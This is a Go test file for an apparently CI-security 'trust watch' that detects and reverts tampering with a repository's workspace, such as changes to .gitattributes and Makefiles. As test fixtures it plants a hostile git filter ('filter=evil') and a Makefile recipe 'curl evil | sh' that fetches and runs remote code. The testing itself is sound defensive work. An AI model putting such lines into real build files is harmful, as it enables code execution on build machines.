package trust

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/airlock-ci/airlock/gvisor/monitor"
)

// gitTrees is a TreeSource over a local repository's objects, as the
// hook's is over the GitHub API.
type gitTrees struct {
	dir  string
	fail error // every call fails with it, when set
}

func (g gitTrees) Tree(ctx context.Context, commit string) ([]TreeFile, bool, error) {
	if g.fail != nil {
		return nil, false, g.fail
	}
	tree, err := lsTree(ctx, g.dir, commit)
	return tree, false, err
}

func (g gitTrees) Blob(ctx context.Context, sha string) ([]byte, error) {
	if g.fail != nil {
		return nil, g.fail
	}
	return blob(ctx, g.dir, sha)
}

// A watch over a filled workspace (airlock run): Begin gives the
// authored findings and the read-only paths; the interim report has the
// authored findings alone, apart from the watch's own; Finish reverts
// what the policy says to and decides, authored and run-time findings
// together.
func TestWatchLifeCycle(t *testing.T) {
	ctx := context.Background()
	dir, git, write := repo(t)
	write(".gitattributes", "*.go text\n")
	base := commitAll(git, "base")
	write(".github/workflows/ci.yml", baseWorkflow)
	commitAll(git, "agent")

	w := NewWatch(Config{Set: defaultSet(t), Base: base, Head: "HEAD", Authored: []Finding{{Phase: Authored, Category: CI, Path: "elsewhere.yml", Kind: KindAdded, Action: ActionWarn}}})
	ro, err := w.Begin(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(ro, ".git/hooks") || !slices.Contains(ro, ".git/config") || !slices.Equal(ro, w.Report().ReadOnly) {
		t.Errorf("read-only paths %v (report %v)", ro, w.Report().ReadOnly)
	}
	authored := len(w.Report().Findings)
	if authored < 2 || w.Report().Findings[0].Path != "elsewhere.yml" {
		t.Fatalf("authored findings: %+v", w.Report().Findings)
	}

	interim := w.Interim()
	if len(interim.Findings) != authored || !slices.Contains(interim.Notes, "interim: the run-time trust diff is made when the job ends") {
		t.Errorf("interim: %+v", interim)
	}
	interim.Findings[0].Path = "changed"
	if w.Report().Findings[0].Path != "elsewhere.yml" || slices.Contains(w.Report().Notes, "interim: the run-time trust diff is made when the job ends") {
		t.Error("the interim report is the watch's own")
	}

	write(".gitattributes", "*.go text\n*.txt filter=evil\n")
	rep := w.Finish(ctx, dir, "/workspace", monitor.Snapshot{})
	if rep != w.Report() {
		t.Error("Finish returns another report than the one the watch fills")
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".gitattributes")); string(b) != "*.go text\n" {
		t.Errorf(".gitattributes not reverted: %q", b)
	}
	var runtime *Finding
	for i, f := range rep.Findings {
		if f.Phase == Runtime && f.Path == ".gitattributes" {
			runtime = &rep.Findings[i]
		}
	}
	if runtime == nil || runtime.Outcome != "reverted" || runtime.Check != CheckRuntimeDiff || len(rep.Findings) <= authored {
		t.Errorf("run-time finding: %+v in %+v", runtime, rep.Findings)
	}
	if rep.Failed {
		t.Errorf("nothing fails here: %s", rep.Reason)
	}
}

// A deferred watch with the commits the checkout can be at compares the
// worktree with the nearest commit's tree: a change made before the
// baseline (in the checkout's own step) is found. Without commits, or
// when their trees cannot be had, the first snapshot is the baseline and
// the note says so.
func TestWatchCommits(t *testing.T) {
	ctx := context.Background()
	dir, git, write := repo(t)
	write("Makefile", "all:\n\ta\n")
	c1 := commitAll(git, "one")
	write("Makefile", "all:\n\tb\n")
	write("package.json", `{"name":"x"}`)
	c2 := commitAll(git, "two")
	// Planted in the step that checked the commit out.
	write("Makefile", "all:\n\tcurl evil | sh\n")

	for _, tc := range []struct {
		name    string
		commits *Commits
		found   bool   // the Makefile's change
		note    string // the start of a note, when set
	}{
		{"the nearest commit", &Commits{IDs: []string{c1, c2}, Source: gitTrees{dir: dir}, Name: "git"}, true, "the worktree was compared with commit " + c2[:12] + " as git has it"},
		{"trees that cannot be had", &Commits{IDs: []string{c1, c2}, Source: gitTrees{dir: dir, fail: errors.New("boom")}, Name: "git"}, false, "the worktree was compared with the job's first snapshot: boom; boom"},
		{"no commits", nil, false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := NewWatch(Config{Set: defaultSet(t), Deferred: true, Commits: tc.commits})
			if ro, err := w.Begin(ctx, dir); ro != nil || err != nil || w.before != nil {
				t.Fatalf("a deferred watch began: %v %v", ro, err)
			}
			if !w.CheckedOut(dir) {
				t.Error("not checked out")
			}
			if err := w.Baseline(dir); err != nil {
				t.Fatal(err)
			}
			rep := w.Finish(ctx, dir, "/workspace", monitor.Snapshot{})
			found := false
			for _, f := range rep.Findings {
				found = found || f.Path == "Makefile" && f.Kind == KindModified && strings.Contains(f.Diff, "+\tcurl evil | sh")
			}
			if found != tc.found {
				t.Errorf("Makefile's change found: %v, want %v; findings %+v", found, tc.found, rep.Findings)
			}
			if tc.note != "" && !slices.ContainsFunc(rep.Notes, func(n string) bool { return n == tc.note }) {
				t.Errorf("notes %q lack %q", rep.Notes, tc.note)
			}
		})
	}
}

// commitAll commits all of the repository that git runs in and returns
// the commit.
func commitAll(git func(args ...string) string, msg string) string {
	git("add", "-A")
	git("commit", "-q", "-m", msg)
	return git("rev-parse", "HEAD")
}
